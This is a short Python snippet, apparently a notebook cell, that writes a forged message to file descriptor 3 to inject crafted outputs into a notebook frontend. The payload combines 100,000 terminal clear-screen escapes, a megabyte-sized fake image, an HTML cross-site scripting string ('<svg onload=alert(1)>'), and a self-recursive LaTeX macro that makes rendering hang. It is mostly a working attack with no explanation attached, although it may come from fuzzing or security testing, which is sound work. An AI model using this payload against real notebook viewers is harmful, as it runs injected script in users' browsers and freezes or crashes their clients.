# %% new after imports
import os, struct


def forge(header, rest=b""):
    os.set_blocking(3, True)
    os.write(3, struct.pack(">I", len(header)) + header + rest)


forge(
    b'[{"outputs":['
    + b'{"output_type":"stream","name":"stdout","text":"\\u001b[2J"},' * 100000
    + b'{"output_type":"display_data","data":{"image/png":"'
    + b"A" * 1000000
    + b'","text/html":"<svg onload=alert(1)><script>","text/latex":"$\\\\def\\\\a{\\\\a\\\\a}\\\\a$"}}]},[]]'
)
